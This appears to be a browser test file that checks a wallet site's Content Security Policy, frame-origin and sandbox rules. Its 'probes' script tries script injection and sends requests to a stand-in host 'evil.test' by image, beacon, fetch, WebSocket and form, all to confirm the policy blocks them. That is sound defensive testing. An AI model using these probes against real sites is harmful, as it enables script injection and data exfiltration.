import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type LentBrowser, lendChromium } from '../../../../checks/src/browser/lendChromium.ts';
import type { Project } from '../projects/rules.ts';
import { writeTestSite } from '../testing/writeTestSite.ts';
import { createWalletSite } from './createWalletSite.ts';

/** Tries what a hostile script would try, and tells the page around what got through. */
const probes = `
const through = [];
const tell = (name) => through.push(name);
window.tell = tell;
const away = new URL('/away', document.referrer || location.href);
away.hostname = 'evil.test';
const add = (tag, parts) => document.head.append(Object.assign(document.createElement(tag), parts));
const tries = {
  eval: () => (0, eval)('tell("eval")'),
  function: () => new Function('tell("function")')(),
  inline: () => add('script', { textContent: 'tell("inline")' }),
  data: () => add('script', { src: 'data:text/javascript,tell("data")' }),
  handler: () => { document.body.innerHTML = '<img src="data:," onerror="tell(\\'handler\\')">'; },
  base: () => { add('base', { href: away.origin + '/' }); if (document.baseURI.includes('evil')) tell('base'); },
  script: () => add('script', { src: away + '?script' }),
  style: () => add('link', { rel: 'stylesheet', href: away + '?style' }),
  prefetch: () => add('link', { rel: 'prefetch', href: away + '?prefetch' }),
  image: () => { new Image().src = away + '?image'; },
  beacon: () => navigator.sendBeacon(away + '?beacon'),
  ping: () => Object.assign(document.createElement('a'), { href: 'javascript:void 0', ping: away + '?ping' }).click(),
  form: () => {
    if (parent === window) return;
    const form = Object.assign(document.createElement('form'), { action: away + '?form', method: 'post' });
    document.body.append(form);
    form.submit();
  },
};
for (const attempt of Object.values(tries)) { try { attempt(); } catch {} }
const socket = new Promise((done) => {
  try { new WebSocket(String(away).replace('http', 'ws') + '?socket').onerror = done; } catch { done(); }
});
const calls = [socket, fetch(away + '?fetch').then(() => tell('fetch'), () => {})];
const features = ['camera', 'microphone', 'geolocation', 'usb', 'payment', 'display-capture', 'midi', 'serial'];
const allowed = features.filter((name) => document.featurePolicy.allowsFeature(name));
const camera = navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'given', ({ name }) => name);
Promise.all([camera, ...calls]).then(([camera]) => parent.postMessage({ through, allowed, camera }, '*'));
`;

describe('the wallet site in a browser', () => {
  const servers: Server[] = [];
  let browser: LentBrowser;
  let page: Page;
  let wallet = '';
  /** What reached the hostile server. */
  const arrived: string[] = [];
  /** Directives that the browser reported to the gateway. */
  const reported = new Set<string>();
  /** As a browser reads them that knows `report-uri` alone; Chromium sends reports of the newer kind over https only. */
  let isOldReporter = false;
  let site: Awaited<ReturnType<typeof writeTestSite>>;

  const listen = (answer: Parameters<typeof createServer>[1]): Promise<number> =>
    new Promise((resolve) => {
      const server = createServer(answer);
      servers.push(server);
      server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port));
    });

  beforeAll(async () => {
    site = await writeTestSite({ 'device.js': '' });
    browser = await lendChromium({
      args: [
        '--host-resolver-rules=MAP *.test 127.0.0.1',
        '--use-fake-device-for-media-stream',
        '--use-fake-ui-for-media-stream',
      ],
    });
  });
  afterEach(async () => {
    isOldReporter = false;
    await page?.close();
  });
  afterAll(async () => {
    await browser?.close();
    for (const server of servers) {
      server.closeAllConnections();
      server.close();
    }
    await site.remove();
  });

  /** Serves the wallet site to a project, and pages that embed it. */
  async function open(origins: (port: number) => readonly string[], isDevelopment = true) {
    const hosts = await listen((request, response) => {
      const url = new URL(request.url ?? '/', 'http://x');
      if (url.pathname === '/away') {
        arrived.push(url.search.slice(1));
        response.setHeader('access-control-allow-origin', '*');
        return response.end();
      }
      response.setHeader('content-type', 'text/html');
      if (url.pathname === '/bare')
        return response.end(
          `<script>onmessage = (e) => { window.heard = e.data; }</script><body><script type="module">${probes}</script>`,
        );
      if (url.searchParams.has('coep')) response.setHeader('cross-origin-embedder-policy', 'require-corp');
      if (url.searchParams.has('quiet')) response.setHeader('referrer-policy', 'no-referrer');
      const frame = url.searchParams.get('frame') ?? '';
      const attributes = url.searchParams.get('attributes') ?? '';
      response.end(
        `<script>onmessage = (e) => { window.heard = e.data; if (parent !== window) parent.postMessage(e.data, '*'); }</script><iframe ${attributes} src="${frame.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`,
      );
    });
    const project: Project = {
      id: 'site',
      name: 'Site',
      allowedOrigins: origins(hosts),
      features: [],
      isDevelopment,
      isAnalyticsEnabled: false,
      mayDeferFactor: false,
    };
    const gateway = await listen(async (request, response) => {
      const body = request.method === 'POST' ? JSON.parse(await readText(request)) : [];
      if (request.url === '/csp-report')
        for (const report of [body].flat()) reported.add(report['csp-report']?.['effective-directive']);
      response.setHeader('access-control-allow-origin', '*');
      response.setHeader('access-control-allow-headers', 'content-type');
      response.writeHead(204).end();
    });
    let answer: (request: Request) => Promise<Response> = async () => new Response();
    const port = await listen(async (request, response) => {
      const headers = new Headers(
        Object.entries(request.headers).map(([name, value]) => [name, String(value)] as [string, string]),
      );
      const reply = await answer(new Request(`http://localhost:${port}${request.url}`, { headers }));
      const policy = reply.headers.get('content-security-policy');
      if (isOldReporter && policy)
        reply.headers.set('content-security-policy', policy.replace('; report-to csp', ''));
      response.writeHead(reply.status, Object.fromEntries(reply.headers));
      response.end(Buffer.from(await reply.arrayBuffer()));
    });
    wallet = `http://localhost:${port}`;
    const served = await createWalletSite({
      folder: site.folder,
      projects: { find: async () => project, isRemembered: () => true, seed: async () => {} },
      rateLimit: { take: async () => 0 },
      gatewayUrl: `http://localhost:${gateway}`,
      walletUrl: wallet,
      clock: { now: () => 0 },
    });
    answer = served.fetch;
    page = await browser.newPage();
    return hosts;
  }
  const sdk = () => `${wallet}/sdk?projectId=site`;
  const around = (origin: string, frame: string, more = '') =>
    `${origin}/?frame=${encodeURIComponent(frame)}${more}`;
  /** Whether the frame's own script ran, once everything has loaded. */
  const runs = async (address: string) => {
    await page.goto(address, { waitUntil: 'load' });
    return page.evaluate(() => (window as unknown as { heard?: unknown }).heard !== undefined);
  };

  it('AT-F1 AT-L19 walletsite-15 runs in allowed pages, and in no page with another around or within', async () => {
    const port = await open((at) => [`http://shop.localhost:${at}`]);
    const shop = `http://shop.localhost:${port}`;
    const evil = `http://evil.test:${port}`;
    expect(await runs(around(shop, sdk()))).toBe(true);
    expect(await runs(around(shop.toUpperCase().replace('HTTP', 'http'), sdk()))).toBe(true);
    expect(await runs(around(`http://shop.localhost.:${port}`, sdk()))).toBe(false);
    for (const host of ['evil.test', 'shop.localhost.evil.test', 'shop-localhost.test', 'localhost.test'])
      expect([host, await runs(around(`http://${host}:${port}`, sdk()))]).toEqual([host, false]);
    expect(await runs(around(evil, around(shop, sdk())))).toBe(false);
    expect(await runs(around(shop, around(evil, sdk())))).toBe(false);
    const data = `data:text/html,<iframe src='${sdk()}'></iframe>`;
    expect(await runs(around(shop, data))).toBe(false);
    const sandbox = '&attributes=sandbox%3D%22allow-scripts%22';
    expect(await runs(around(shop, around(shop, sdk()), sandbox))).toBe(false);
  });

  it('AT-F4 walletsite-15 runs in an exact origin that does not tell itself, in no other', async () => {
    const port = await open((at) => [`http://shop.localhost:${at}`]);
    expect(await runs(around(`http://shop.localhost:${port}`, sdk(), '&quiet'))).toBe(true);
    expect(await runs(around(`http://other.localhost:${port}`, sdk(), '&quiet'))).toBe(false);
    expect(await runs(around(`http://evil.test:${port}`, sdk(), '&quiet'))).toBe(false);
  });

  it('AT-F5 walletsite-18 runs in a page that isolates itself', async () => {
    const port = await open(() => []);
    expect(await runs(around(`http://localhost:${port}`, sdk(), '&coep'))).toBe(true);
  });

  it('AT-F5 walletsite-18 runs without credentials, and does nothing in a sandbox without scripts', async () => {
    const port = await open(() => []);
    const inFrame = (attributes: string) =>
      runs(around(`http://localhost:${port}`, sdk(), `&attributes=${encodeURIComponent(attributes)}`));
    expect(await inFrame('credentialless')).toBe(true);
    expect(await inFrame('sandbox="allow-scripts allow-same-origin"')).toBe(true);
    expect(await inFrame('sandbox')).toBe(false);
    expect(await inFrame('sandbox="allow-same-origin allow-forms"')).toBe(false);
  });

  it('AT-F7 walletsite-16 AT-F8 walletsite-17 lets no probe through and gives no device', async () => {
    await site.remove();
    site = await writeTestSite({ 'main.js': probes });
    const port = await open(() => []);
    const hear = async (address: string) => {
      arrived.length = 0;
      await page.goto(address);
      await page.waitForFunction(() => (window as unknown as { heard?: unknown }).heard);
      return page.evaluate(() => (window as unknown as { heard: { through: string[] } }).heard);
    };
    // The probes are real: a page without a policy is open to them.
    const bare = await hear(`http://localhost:${port}/bare`);
    expect(bare.through).toEqual(
      expect.arrayContaining(['eval', 'function', 'inline', 'data', 'base', 'fetch']),
    );
    // All of them: one that came later would be taken for the frame's.
    const sent = ['script', 'style', 'prefetch', 'image', 'beacon', 'ping', 'socket', 'fetch'];
    await expect.poll(() => arrived).toEqual(expect.arrayContaining(sent));

    const features = ['camera', 'microphone', 'geolocation', 'usb', 'payment', 'midi', 'serial'].join('; ');
    const attributes = `&attributes=${encodeURIComponent(`allow="${features}"`)}`;
    expect(await hear(around(`http://localhost:${port}`, sdk(), attributes))).toEqual({
      through: [],
      allowed: [],
      camera: 'NotAllowedError',
    });
    expect(arrived).toEqual([]);
  });

  it('AT-F7 walletsite-14 walletsite-16 has the browser tell the gateway what was refused', async () => {
    await site.remove();
    site = await writeTestSite({ 'main.js': probes });
    const port = await open(() => []);
    isOldReporter = true;
    await page.goto(around(`http://localhost:${port}`, sdk()));
    await expect
      .poll(() => [...reported])
      .toEqual(expect.arrayContaining(['connect-src', 'img-src', 'script-src-elem', 'style-src-elem']));
  });
});

async function readText(request: IncomingMessage): Promise<string> {
  let text = '';
  for await (const chunk of request) text += chunk;
  return text;
}
